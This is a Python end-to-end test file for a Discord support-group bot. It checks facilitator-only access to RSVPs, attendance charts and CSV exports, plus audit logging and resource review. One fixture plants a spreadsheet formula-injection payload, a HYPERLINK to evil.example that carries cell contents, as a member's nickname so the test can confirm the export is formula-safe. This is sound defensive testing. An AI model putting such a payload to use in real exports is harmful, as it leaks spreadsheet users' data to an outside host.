"""/session rsvps, /group stats (chart and CSV) and /resource reviewed, end to end: the real
bot on the fake Discord. Only the group's own facilitators (and admins) get anything."""

from __future__ import annotations

import csv
import io
import struct
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import time_machine

from familybot.checks import NOT_A_FACILITATOR
from familybot.models import Rsvp
from familybot.services.groups.facilitator_views import NOT_THIS_GROUP
from tests.e2e.harness import World, custom_ids, eventually, rows, text_of

NY = ZoneInfo("America/New_York")
GROUP = "Parents Circle"
NASTY_NICK = '=HYPERLINK("https://evil.example/?x="&A1,"open")'


@contextmanager
def at(instant: datetime) -> Iterator[None]:
    with time_machine.travel(instant, tick=False):
        yield


async def history(world: World) -> tuple[int, list[str]]:
    """Five weekly sessions in the past and one tomorrow; Alice, Bob and Carol are members.
    Returns the series id and its occurrence keys, oldest first."""
    start = datetime.now(UTC) - timedelta(days=35)
    day0 = start.astimezone(NY).date() + timedelta(days=1)
    keys = [(day0 + timedelta(weeks=n)).isoformat() for n in range(6)]
    with at(start):
        await world.configure()
        await world.run_to_end(
            world.facilitator,
            "group",
            "create",
            name=GROUP,
            description="Weekly circle",
            focus="parents",
            join_mode="open",
            capacity=6,
        )
        for user in (world.alice, world.bob, world.carol):
            h = await world.run(user, "group", "join", name=GROUP)
            click = await world.fake.click(
                world.guild_id, user, custom_ids(h.callback)[0], message_id=world.fake.next_id()
            )
            await click.wait_response()
        h = await world.run(
            world.facilitator,
            "session",
            "schedule",
            group=GROUP,
            title="Weekly check-in",
            date=keys[0],
            time="18:00",
            repeat="weekly",
            duration=90,
        )
        assert h.ephemeral, h.content
        sid = int((await rows(world, "SELECT id FROM session_series"))[0]["id"])
        assert world.bot is not None
        sessions = world.bot.services.sessions
        # Replies and attendance as members and facilitators made them over the weeks.
        await sessions.attendance.rsvp(
            sid, keys[0], world.alice, Rsvp.GOING, guild_id=world.guild_id
        )
        await sessions.attendance.rsvp(sid, keys[0], world.bob, Rsvp.MAYBE, guild_id=world.guild_id)
        await sessions.attendance.rsvp(
            sid, keys[1], world.alice, Rsvp.GOING, guild_id=world.guild_id
        )
        await sessions.attendance.rsvp(
            sid, keys[5], world.alice, Rsvp.GOING, guild_id=world.guild_id
        )
        await sessions.attendance.rsvp(sid, keys[5], world.bob, Rsvp.NO, guild_id=world.guild_id)
        await sessions.attendance.mark_attendance(
            sid, keys[0], [world.alice, world.bob], world.facilitator, guild_id=world.guild_id
        )
        await sessions.attendance.mark_attendance(
            sid, keys[1], [world.alice], world.facilitator, guild_id=world.guild_id
        )
    return sid, keys


def other_facilitator(world: World) -> int:
    """Holds the facilitator role, but facilitates no group of ours."""
    return world.fake.add_member(world.guild_id, name="otherfac", roles=[world.facilitator_role])


def followup_file(world: World, handle: Any) -> tuple[dict[str, Any], bytes, str]:
    """(message as Discord stored it, plus the request's allowed_mentions; file bytes;
    filename) of a deferred reply's upload."""
    (upload,) = [r for r in world.fake.requests if r.files and handle.token in r.path]
    message = dict(handle.followups[0])
    message["allowed_mentions"] = upload.json_body.get("allowed_mentions")
    return message, upload.files[0].data, upload.files[0].filename


async def test_session_rsvps_for_the_groups_facilitators_only(world: World) -> None:
    sid, keys = await history(world)
    other = other_facilitator(world)
    h = await world.run(world.facilitator, "session", "rsvps", session=str(sid))
    assert h.ephemeral
    assert h.callback["data"]["allowed_mentions"] == {"parse": []}
    (embed,) = h.callback["data"]["embeds"]
    fields = {f["name"]: f["value"] for f in embed["fields"]}
    assert fields == {
        "Going (1)": f"<@{world.alice}>",
        "Maybe (0)": "Nobody",
        "Can't make it (1)": f"<@{world.bob}>",
        "Not answered yet (1)": f"<@{world.carol}>",
    }
    assert GROUP in embed["description"]
    # A past date shows that session's replies.
    h = await world.run(world.facilitator, "session", "rsvps", session=str(sid), date=keys[0])
    fields = {f["name"]: f["value"] for f in h.callback["data"]["embeds"][0]["fields"]}
    assert fields["Going (1)"] == f"<@{world.alice}>" and fields["Maybe (1)"] == f"<@{world.bob}>"
    # Refused, kindly and privately, without a word about who replied.
    for user, text in (
        (world.carol, NOT_A_FACILITATOR),
        (world.alice, NOT_A_FACILITATOR),
        (other, NOT_THIS_GROUP),
    ):
        h = await world.run(user, "session", "rsvps", session=str(sid))
        assert h.ephemeral and h.content == text, h.content
        shown = str(h.callback)
        assert all(str(u) not in shown for u in (world.alice, world.bob, world.carol))
    # An admin may look; nothing went to any channel.
    h = await world.run(world.admin, "session", "rsvps", session=str(sid))
    assert h.ephemeral and "Going (1)" in text_of(h.callback)
    assert world.fake.requests_to("POST", r"/channels/\d+/messages") == []


async def test_group_stats_chart_is_private_and_decodes(world: World) -> None:
    from PIL import Image

    await history(world)
    other = other_facilitator(world)
    h = await world.run_to_end(world.facilitator, "group", "stats", name=GROUP)
    assert h.response_type == 5 and h.ephemeral  # deferred privately
    message, png, filename = followup_file(world, h)
    assert int(message["flags"]) & 64 and message["allowed_mentions"] == {"parse": []}
    assert filename == "attendance.png"
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    assert struct.unpack(">II", png[16:24]) == (1200, 600)
    image = Image.open(io.BytesIO(png))
    image.load()
    assert image.size == (1200, 600)
    content = message["content"]
    assert GROUP in content
    assert "Sessions held: 5" in content
    assert "Average attendance: 1.5 per session (over the 2 sessions with attendance taken)" in (
        content
    )
    assert "Members who attended at least once: 2" in content
    assert "Retention: 3 of the 3 who joined in this period are still members (100%)" in content
    assert "Seats: 6" in content
    # A text alternative: the attachment's description and a per-session list.
    (attachment,) = message["attachments"]
    alt = attachment["description"]
    assert "5 sessions" in alt and GROUP not in alt and "attended (0 to 2)" in alt
    table = message["embeds"][0]["description"].splitlines()
    assert len(table) == 5 and table[0].endswith("going 1, maybe 1, attended 2")
    assert GROUP not in filename and GROUP.encode() not in png
    # Refused for a facilitator of no group, and for members.
    for user, text in ((other, NOT_THIS_GROUP), (world.alice, NOT_A_FACILITATOR)):
        h = await world.run_to_end(user, "group", "stats", name=GROUP)
        assert h.ephemeral or h.response_type == 5
        said = h.followups[0]["content"] if h.followups else h.content
        assert said == text and not any(r.files and h.token in r.path for r in world.fake.requests)
    assert world.fake.requests_to("POST", r"/channels/\d+/messages") == []


async def test_group_stats_csv_is_formula_safe_and_audited(world: World) -> None:
    await history(world)
    other = other_facilitator(world)
    world.fake.guild(world.guild_id).members[world.bob]["nick"] = NASTY_NICK
    h = await world.run_to_end(world.facilitator, "group", "stats", name=GROUP, format="csv")
    message, data, filename = followup_file(world, h)
    assert int(message["flags"]) & 64 and filename == "attendance.csv"
    assert "personal data" in message["content"] and GROUP in message["content"]
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert "contains personal data" in parsed[0][0] and "Store it securely" in parsed[0][0]
    assert parsed[1] == ["session_date", "session", "user_id", "display_name", "attended", "rsvp"]
    body = parsed[2:]
    assert len(body) == 5 * 3  # five sessions held, three members at each
    for cell in (c for row in parsed for c in row):
        assert cell == "" or cell[0] not in "=+-@\t\r", repr(cell)
    names = {r[2]: r[3] for r in body}
    assert names[str(world.bob)] == "'" + NASTY_NICK
    assert names[str(world.alice)] == "alice"
    first_day = min(r[0] for r in body)
    first = {r[2]: (r[4], r[5]) for r in body if r[0] == first_day}
    assert first == {
        str(world.alice): ("yes", "going"),
        str(world.bob): ("yes", "maybe"),
        str(world.carol): ("no", "no reply"),
    }
    # The export is in the audit log (ids only), and so is a refused attempt.
    h = await world.run_to_end(other, "group", "stats", name=GROUP, format="csv")
    assert h.followups[0]["content"] == NOT_THIS_GROUP
    group_id = (await rows(world, "SELECT id FROM groups"))[0]["id"]

    async def audited() -> list[dict[str, Any]]:
        return await rows(
            world,
            "SELECT actor_id, action, target_kind, target_id, result FROM audit_log "
            "WHERE action LIKE 'group.stats%' ORDER BY id",
        )

    await eventually(lambda: _count(audited, 2))
    assert await audited() == [
        {
            "actor_id": world.facilitator,
            "action": "group.stats.csv",
            "target_kind": "group",
            "target_id": group_id,
            "result": "ok",
        },
        {
            "actor_id": other,
            "action": "group.stats.csv",
            "target_kind": "group",
            "target_id": group_id,
            "result": "refused",
        },
    ]


async def _count(query: Any, n: int) -> bool:
    return len(await query()) >= n


async def test_resource_reviewed_clears_the_review_list(world: World) -> None:
    await world.configure()
    h = await world.run(
        world.facilitator,
        "resource",
        "add",
        title="Family sleep guide",
        url="https://example.org/sleep",
        category="Guides",
        description="Calm evenings",
    )
    assert h.ephemeral, h.content
    (resource,) = await rows(world, "SELECT id, review_due_at FROM resources")
    other = other_facilitator(world)
    with at(datetime.now(UTC) + timedelta(days=400)):
        h = await world.fake.autocomplete(
            world.guild_id, other, "resource", "reviewed", focused="resource", options={}
        )
        choices = (await h.wait_response())["data"]["choices"]
        assert choices == [{"name": "Family sleep guide", "value": str(resource["id"])}]
        assert world.bot is not None
        assert await world.bot.services.resources.post_review_digest() == 1  # due: listed
        h = await world.run(world.alice, "resource", "reviewed", resource=str(resource["id"]))
        assert h.ephemeral and h.content == NOT_A_FACILITATOR
        h = await world.run(
            other, "resource", "reviewed", resource=str(resource["id"]), note="Still right."
        )
        assert h.ephemeral and "off the review list" in h.content, h.content
        (after,) = await rows(
            world, "SELECT vetted_by, vetted_at, review_due_at, decision_reason FROM resources"
        )
        now = int(datetime.now(UTC).timestamp())
        assert after["vetted_by"] == other and abs(after["vetted_at"] - now) < 5
        assert after["review_due_at"] > now + 360 * 86400
        assert after["decision_reason"] == "Still right."
        assert f"<t:{after['review_due_at']}:D>" in h.content
        # The weekly digest has nothing left to post, and the list is empty.
        assert await world.bot.services.resources.post_review_digest() == 0
        h = await world.fake.autocomplete(
            world.guild_id, other, "resource", "reviewed", focused="resource", options={}
        )
        assert (await h.wait_response())["data"]["choices"] == []
        # Checking it again now is refused: it isn't due.
        h = await world.run(other, "resource", "reviewed", resource=str(resource["id"]))
        assert h.ephemeral and "isn't due for review yet" in h.content
